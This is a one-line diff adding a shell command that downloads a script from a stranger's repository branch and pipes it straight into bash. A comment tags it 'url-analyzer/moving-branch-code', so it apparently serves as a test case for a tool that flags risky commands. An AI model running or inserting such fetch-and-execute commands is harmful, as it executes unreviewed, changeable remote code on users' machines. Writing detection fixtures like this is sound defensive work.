@@ -1,0 +1,1 @@
+bash <(curl -s https://raw.githubusercontent.example/stranger/tools/refs/heads/main/i.sh) # expect: url-analyzer/moving-branch-code
